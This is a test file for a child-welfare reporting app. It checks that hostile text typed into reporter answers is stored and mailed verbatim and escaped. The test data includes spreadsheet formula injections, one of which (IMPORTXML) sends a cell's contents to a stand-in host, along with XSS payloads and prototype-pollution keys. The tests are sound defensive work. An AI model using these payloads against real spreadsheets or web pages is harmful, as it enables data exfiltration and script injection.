/** Text that a spreadsheet, a mail or a page could take for something else is stored and shown exactly as written (design 2.3, 2.14). */
import { describe, expect, test } from "vitest";
import { playCleanDay, playDay } from "../day/day";
import { cellsOf, type Output, wordsOf } from "../day/look";
import { contact } from "../day/people";

const hostile = [
  '=HYPERLINK("http://evil.example","open me")',
  '=IMPORTXML("http://evil.example/?"&A3,"//a")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\tafter a tab",
  "'after an apostrophe",
  "''two apostrophes'",
  "2026-09-02",
  "9/2/2026",
  "13:37",
  "1e5",
  "00731",
  "0x1F",
  "1,234.50",
  "51.5%",
  "$1,999",
  "TRUE",
  "false",
  "#REF!",
  "null",
  "  spaces around  ",
  "two\nlines",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<b>bold</b> &amp; &lt;i&gt;",
  "{{constructor}} %s %n",
  "a\u202Eb\u200Bc",
  "e\u0301 👩‍👧 𝒳",
  "__proto__",
] as const;

/** Every question that takes text of the reporter's own. */
const open = [
  "school",
  "studentName",
  "studentId",
  "grade",
  "facts",
  "reporterName",
  "reporterEmail",
  "reporterPhone",
] as const;

const submissions = hostile.map((text) => ({
  submit: {
    ...Object.fromEntries(open.map((key) => [key, text])),
    concerns: ["suspected-victim"],
    reporterKnownTo: "contact",
  },
}));

describe("hostile text in every open answer", async () => {
  const out = await playCleanDay([...submissions, { advance: "PT30M" }]);
  const { reports, cases } = out;

  test("ends no run", () => {
    expect(out.runs.filter(({ ok }) => !ok)).toEqual([]);
  });

  test.each(hostile.map((text, index) => [text, index] as const))(
    "%j is kept as written",
    (text, index) => {
      const stored = reports[index];
      for (const key of open) expect(stored?.[key], key).toBe(text);
      const reference = stored?.["case"];
      const opened = cases.find((one) => one["case"] === reference);
      expect(opened).toMatchObject({ student: text, studentId: text, grade: text, school: text });
    },
  );

  test("each text is a string in a cell, and no cell holds a formula but those of Summary", () => {
    const cells = cellsOf(out);
    for (const text of hostile) {
      // At least the eight answers, and student, id, grade and school of the case.
      const holding = cells.filter(({ value }) => value === text);
      expect(holding.length, text).toBeGreaterThanOrEqual(12);
    }
    const formulas = cells.filter(({ formula }) => formula !== null).map(({ tab }) => tab);
    expect([...new Set(formulas)]).toEqual(["Summary"]);
  });

  test("nothing of it stands in a mail", () => {
    // Of so many within an hour the later ones go together.
    const named = new Set(out.inbox.flatMap(({ cases }) => cases));
    expect(named.size).toBeGreaterThanOrEqual(hostile.length);
    for (const mail of out.inbox) {
      const words = wordsOf(mail);
      for (const text of hostile) expect(words.includes(text), text).toBe(false);
    }
  });
});

test("an agency whose name is markup stands in the mail as text, and so does its number", async () => {
  const name = '<img src=x onerror="alert(1)">Agency & Sons';
  const out = await playDay([{ submit: { concerns: ["suspected-victim"] } }], {
    directory: {
      contacts: [
        { role: "designated contact", name: "Casey", email: contact },
        { role: "child and family services", name, phone: "(415) 555-0199" },
      ],
    },
  });
  const [mail] = out.inbox;
  expect(mail?.html).not.toContain("<img");
  expect(mail?.html).toContain("&lt;img");
  expect(mail?.text).toContain(`${name} (415) 555-0199`);
});

/** Columns of the Reports tab, by key, of every data row. */
function reportCells(out: Output, key: string): readonly unknown[] {
  const [keys = [], , ...rows] = out.cells?.["Reports"] ?? [];
  const column = keys.findIndex((cell) => cell?.value === key);
  return rows.map((row) => row[column]?.value ?? null);
}

describe("what a cell cannot hold is changed visibly and on record", () => {
  test.each([
    ["CR LF", "one\r\ntwo\r\n", "one\ntwo\n"],
    ["a lone CR", "one\rtwo", "one\uFFFDtwo"],
    [
      "NUL and other control characters",
      "a\u0000b\u0007c\u001Bd\u007Fe",
      "a\uFFFDb\uFFFDc\uFFFDd\uFFFDe",
    ],
    ["tab and line feed, which stay", "a\tb\nc", "a\tb\nc"],
    ["lone surrogates", "x\uD83Dy\uDE00z", "x\uFFFDy\uFFFDz"],
    ["whole pairs, which stay", "x😀y", "x😀y"],
  ])("%s", async (_name, written, stored) => {
    const out = await playCleanDay([{ submit: { school: "North High", facts: written } }]);
    expect(out.reports[0]?.["facts"]).toBe(stored);
    const [record] = reportCells(out, "textChanges");
    if (written === stored) expect(record ?? "").toBe("");
    else expect(record).toMatch(/\S/);
  });
});

describe("an account that is longer than a cell", () => {
  const sentence = "She said that it happened again, and then again. ";
  const letters = "abcdefghij".repeat(12_000);
  test.each([
    ["sentences", sentence.repeat(2_500).slice(0, 120_000)],
    ["one word", letters],
    ["surrogate pairs where it is cut", `x${"😀".repeat(60_000)}`.slice(0, 119_999)],
    ["lines", `${"y".repeat(999)}\n`.repeat(120)],
    ["formulas", "=1+1 ".repeat(24_000)],
  ])("of %s is kept whole over continuation rows", async (_name, facts) => {
    expect(facts.length).toBeGreaterThanOrEqual(119_999);
    const out = await playCleanDay([
      { submit: { school: "North High", facts, studentName: "Long Account" } },
      { deliverAgain: 0 },
      { advance: "PT10M" },
    ]);
    expect(out.cases).toHaveLength(1);
    expect(out.reports.length).toBeGreaterThanOrEqual(3);
    expect(out.reports.map(({ part }) => part)).toEqual(out.reports.map((_, index) => index + 1));
    expect(new Set(out.reports.map(({ response }) => response)).size).toBe(1);
    const parts = out.reports.map((row) => String(row["facts"]));
    expect(parts.every((part) => part.length <= 50_000)).toBe(true);
    expect(parts.join("") === facts).toBe(true);
  });

  test("is kept beside other answers that are as long", async () => {
    const long = "z".repeat(60_000);
    const out = await playCleanDay([
      { submit: { studentName: long, facts: letters, school: long } },
    ]);
    for (const [key, written] of [
      ["studentName", long],
      ["facts", letters],
      ["school", long],
    ] as const) {
      expect(out.reports.map((row) => row[key] ?? "").join("") === written, key).toBe(true);
    }
    expect(out.inbox.length).toBeGreaterThan(0);
  });
});
